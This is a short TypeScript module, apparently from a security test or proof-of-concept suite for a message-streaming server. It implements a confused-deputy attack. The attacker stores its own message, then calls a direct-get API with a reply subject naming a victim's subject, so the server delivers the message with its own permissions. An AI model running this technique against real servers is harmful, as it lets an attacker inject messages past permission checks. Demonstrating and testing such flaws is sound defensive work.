import type { Scene } from "../scene.ts";
import { api } from "./attack.ts";

/*
 * A confused deputy: permissions are checked on the subject a client publishes to, not on the reply
 * subject it names. The server sends what it answers wherever the reply subject says, with its own rights.
 */

interface Errand {
  /** Names the attack's message in the own stream. */
  readonly id: string;
  /** Where the server is to send it. */
  readonly to: string;
  readonly body: unknown;
  readonly headers?: Readonly<Record<string, string>>;
}

/** Stores a message of the attacker's own and has the server send it to a subject of the victim. */
export async function sendByServer(
  { raider, own }: Scene,
  { id, to, body, headers }: Errand,
): Promise<void> {
  const { subject } = await own.put(id, body, headers);
  await raider.send(api(`DIRECT.GET.${own.store.stream}.${subject}`), undefined, { reply: to });
}
